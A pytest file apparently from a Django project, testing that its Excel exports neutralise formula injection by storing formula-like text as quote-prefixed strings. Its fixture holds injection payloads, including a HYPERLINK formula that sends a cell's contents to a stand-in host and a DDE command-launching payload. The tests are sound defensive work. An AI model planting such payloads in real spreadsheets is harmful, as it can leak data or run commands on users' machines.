"""Exports write text as text (issue 11): a plan, domain, project or report text that starts
like a formula (= + - @) is never written as one, and carries Excel's quote prefix so that
editing the cell keeps it text. The only formulas are the 合计 row's."""

import openpyxl
import pytest

from tests.factories import make_owner, make_project, make_report
from tuijin.accounts.scopes import Scope
from tuijin.core.periods import Period
from tuijin.projects.models import MonthlyReport
from tuijin.projects.spreadsheets.exports import projects_export, reports_export, template_export

pytestmark = pytest.mark.django_db

CITY = Scope.city_wide_for_system()
HOSTILE = {
    "plan": '=HYPERLINK("http://example.invalid/?"&A3,"点击查看")',
    "domain": "=1+1",
    "project": "=cmd|' /C calc'!A0",
    "owner": "@SUM(1,2)",
    "description": "+86 371 1234",
    "progress": "-2+3",
}


@pytest.fixture
def hostile(plan):
    plan.name = HOSTILE["plan"]
    plan.save()
    domain = plan.domains.get(code="manufacturing")
    domain.name = HOSTILE["domain"]
    domain.save()
    project = make_project(plan, name=HOSTILE["project"], description=HOSTILE["description"],
                           owner=make_owner(HOSTILE["owner"]))
    make_report(project, 6, "10", "10")
    MonthlyReport.objects.update(progress_text=HOSTILE["progress"])
    return plan


def _exports(plan, tmp_path):
    library, june, template = (tmp_path / f"{name}.xlsx" for name in ("library", "june",
                                                                       "template"))
    projects_export(plan=plan, target=library, user=CITY)
    reports_export(plan=plan, period=Period(2023, 6), target=june, user=CITY)
    template_export(plan=plan, period=Period(2023, 6), target=template, user=CITY)
    return [library, june, template]


def _cells(path):
    sheet = openpyxl.load_workbook(path).active
    return [cell for row in sheet.iter_rows() for cell in row if cell.value is not None]


def test_no_exported_cell_is_a_formula_but_the_totals(hostile, tmp_path):
    for path in _exports(hostile, tmp_path):
        formulas = [c.value for c in _cells(path) if c.data_type == "f"]
        assert all(f.startswith("=SUBTOTAL(9,") for f in formulas), (path.name, formulas)


def test_text_that_starts_like_a_formula_is_kept_as_text_with_a_quote_prefix(hostile, tmp_path):
    library, june, template = _exports(hostile, tmp_path)
    for path, expected in [
        (library, [HOSTILE["project"], HOSTILE["owner"], HOSTILE["description"]]),
        (june, [HOSTILE["project"], HOSTILE["progress"]]),
        (template, [HOSTILE["project"]]),
    ]:
        cells = {c.value: c for c in _cells(path) if isinstance(c.value, str)}
        title = next(iter(cells.values()))
        assert title.value.startswith(HOSTILE["plan"]) and title.data_type == "s"
        assert title.quotePrefix
        for text in expected:
            assert cells[text].data_type == "s" and cells[text].quotePrefix, (path.name, text)
    sections = [c for c in _cells(library) if str(c.value).startswith(HOSTILE["domain"])]
    assert sections and all(c.data_type == "s" and c.quotePrefix for c in sections)
